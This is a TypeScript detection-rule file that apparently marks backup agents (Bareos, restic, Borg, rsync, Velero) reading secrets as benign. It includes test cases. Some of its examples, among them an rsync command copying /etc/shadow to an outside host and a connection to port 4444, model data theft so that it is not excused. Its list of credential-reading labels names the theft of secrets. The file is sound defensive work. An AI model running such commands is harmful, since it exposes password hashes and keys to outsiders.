import type { Facts } from "#alert/facts.ts";
import type { BenignPattern } from "../benign.ts";
import { ordinaryActivity } from "./activity.ts";
import { connecting, executing, inContainer, onHost, reading, writing } from "./examples.ts";
import { callsOf, readsOf } from "./trust.ts";

/** Backup agents read everything, secrets included: what is explained is the reading, never where the data goes. */

const explained = [
  "reads-shadow-file",
  "reads-authentication-configuration",
  "reads-ssh-private-key",
  "reads-ssh-folder",
  "reads-tls-private-key",
  "reads-gnupg-private-keys",
  "reads-cloud-credentials",
  "reads-kubernetes-credentials",
  "reads-registry-credentials",
  "reads-stored-passwords",
  "reads-application-secrets",
  "reads-shell-history",
  "reads-browser-credentials",
  "reads-password-manager",
  "reads-kerberos-tickets",
  "reads-domain-credential-cache",
];
const schedulers = ["systemd", "cron", "crond", "anacron", "run-parts"];
const everything = ["/etc/", "/home/", "/root/", "/var/", "/opt/", "/srv/", "/usr/", "/boot/"];

const distinguishing = (tool: string): readonly string[] => [
  `${tool} has a job at that minute, and its log names this host and the folder.`,
  "It reads many files one after the other at the usual hour, not one secret alone.",
  "A backup tool that somebody started by hand, with an unknown repository or remote, is a common way to take data out: check where it writes to.",
];

export const backupPatterns: readonly BenignPattern[] = [
  ordinaryActivity({
    id: "bareos-backup",
    activity: "The Bareos or Bacula file daemon reads files for a backup",
    distinguishing: distinguishing("The director"),
    explains: explained,
    programs: ["bareos-fd", "bacula-fd", "burp", "bpbkar", "dsmc", "amandad", "urbackupclientbackend"],
    executables: ["/usr/sbin/bareos-fd", "/usr/sbin/bacula-fd", "/opt/bacula/bin/bacula-fd"],
    where: "host",
    startedBy: ["systemd", "init"],
    does: (facts) => readsOf(facts, ...everything),
    and: "process 1 started it and it only reads",
    examples: {
      proven: [
        onHost("bareos-fd", "/usr/sbin/bareos-fd", "systemd", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "bareos-fd -f",
        }),
      ],
      named: [onHost("bacula-fd", "", "systemd", reading("/etc/shadow"))],
      ignored: [
        onHost("bareos-fd", "/tmp/bareos-fd", "systemd", reading("/etc/shadow")),
        onHost("bareos-fd", "/usr/sbin/bareos-fd", "systemd", writing("/etc/shadow")),
        onHost("bareos-fd", "/usr/sbin/bareos-fd", "php-fpm", reading("/etc/shadow")),
      ],
    },
  }),

  ordinaryActivity({
    id: "restic-backup",
    activity: "restic makes a backup on its schedule",
    distinguishing: distinguishing("The timer or cron job of restic"),
    explains: explained,
    programs: ["restic", "kopia", "rustic", "duplicacy"],
    executables: ["/usr/bin/restic", "/usr/bin/kopia", "/usr/bin/rustic"],
    startedBy: [
      ...schedulers,
      "restic-backup",
      "restic-backup.sh",
      "resticprofile",
      "autorestic",
      "velero",
      "node-agent",
    ],
    does: (facts) =>
      isSubcommand(facts, ["backup", "snapshot", "check", "forget", "prune"]) ? readsOf(facts, ...everything) : null,
    // Where the copy goes stands in the command; an address there may be anybody's, so it proves nothing.
    tolerates: ["https://", "http://"],
    provenWhen: (facts) =>
      facts.container.where === "host" &&
      facts.user.loginUid === null &&
      facts.process.terminal === false &&
      !facts.process.command.text.includes("://"),
    and: "it runs on a schedule, without a person's log-in, and only reads",
    examples: {
      proven: [
        onHost("restic", "/usr/bin/restic", "systemd", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "restic backup /etc /home --exclude-caches",
        }),
      ],
      named: [
        onHost("restic", "", "cron", { ...reading("/etc/shadow"), "proc.cmdline": "restic backup /etc" }),
        onHost("restic", "/usr/bin/restic", "systemd", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "restic backup --repo rest:https://203.0.113.9/x /etc",
        }),
        onHost("restic", "/usr/bin/restic", "bash", {
          ...reading("/root/.ssh/id_ed25519"),
          "proc.cmdline": "restic backup /root",
          "proc.tty": 34816,
          "user.loginuid": 1000,
        }),
      ],
      ignored: [
        onHost("restic", "/dev/shm/restic", "systemd", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "restic backup /etc",
        }),
        onHost("restic", "/usr/bin/restic", "systemd", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "restic restore latest --target /",
        }),
        inContainer("restic", "/usr/bin/restic", "nginx", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "restic backup /etc",
        }),
      ],
    },
  }),

  ordinaryActivity({
    id: "borg-backup",
    activity: "BorgBackup makes a backup",
    distinguishing: distinguishing("borgmatic or the cron job of Borg"),
    explains: explained,
    programs: ["borg", "borgmatic", "attic"],
    executables: [],
    isScript: true,
    does: (facts) => readsOf(facts, ...everything),
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("borg", "/usr/bin/python3.11", "borgmatic", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "borg create --stats ::{hostname}-{now} /etc /home",
        }),
      ],
      ignored: [
        onHost("borg", "/home/mira/borg", "bash", reading("/etc/shadow")),
        onHost("borg", "/usr/bin/python3.11", "apache2", reading("/etc/shadow")),
      ],
    },
  }),

  ordinaryActivity({
    id: "rsync-snapshot",
    activity: "rsnapshot, rsync, tar or duplicity copy folders for a backup",
    distinguishing: distinguishing("rsnapshot, duplicity or backintime"),
    explains: explained,
    programs: ["rsnapshot", "duplicity", "backintime", "rdiff-backup", "timeshift", "deja-dup", "rsync"],
    executables: [],
    isScript: true,
    startedBy: [],
    does: (facts) =>
      facts.process.name === "rsync" &&
      !facts.ancestors.some((name) => ["rsnapshot", "timeshift", "backintime", "crond", "cron"].includes(name))
        ? null
        : readsOf(facts, ...everything),
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("rsync", "/usr/bin/rsync", "rsnapshot", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "rsync -a --delete /etc /backup/daily.0/localhost/",
          "proc.aname[2]": "cron",
        }),
      ],
      ignored: [
        onHost("rsync", "/usr/bin/rsync", "bash", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "rsync /etc/shadow mira@203.0.113.9:",
        }),
        onHost("rsync", "/tmp/rsync", "rsnapshot", reading("/etc/shadow")),
      ],
    },
  }),

  ordinaryActivity({
    id: "velero-backup",
    activity: "Velero or another Kubernetes backup copies volumes",
    distinguishing: [
      "A Backup or Schedule object of that minute names the namespace (`velero backup get`).",
      "The pod runs in Velero's own namespace with Velero's image.",
      "A backup into a bucket that is not yours would be theft by the same means.",
    ],
    explains: explained,
    programs: ["velero", "node-agent", "kopia", "restic", "k10", "stork"],
    executables: ["/velero"],
    where: "container",
    images: ["velero/velero"],
    does: (facts) =>
      readsOf(facts, "/host_pods/", "/hostPath/", "/var/lib/kubelet/pods/", "/scratch/", "/credentials/") ??
      callsOf(facts, "execve", "mount"),
    and: "the image is Velero's own",
    examples: {
      proven: [
        inContainer("velero", "/velero", "containerd-shim", {
          ...reading("/host_pods/9c1e/volumes/kubernetes.io~csi/pvc-1/mount/db/secret.key"),
          "proc.is_exe_upper_layer": false,
          "container.image.repository": "docker.io/velero/velero",
        }),
      ],
      named: [
        inContainer(
          "velero",
          "",
          "containerd-shim",
          reading("/host_pods/9c1e/volumes/kubernetes.io~csi/pvc-1/mount/db"),
        ),
      ],
      ignored: [
        inContainer("velero", "/tmp/velero", "sh", reading("/host_pods/9c1e/x")),
        inContainer("velero", "/velero", "containerd-shim", reading("/host/etc/shadow")),
        inContainer("velero", "/velero", "nginx", { ...executing("velero server"), "proc.is_exe_upper_layer": false }),
        inContainer("velero", "/velero", "sh", connecting("10.0.0.3:40000->203.0.113.9:4444")),
      ],
    },
  }),
];

function isSubcommand(facts: Facts, names: readonly string[]): boolean {
  const words = facts.process.command.commands[0]?.words.slice(1) ?? [];
  return words.slice(0, 24).some((word) => names.includes(word.value));
}
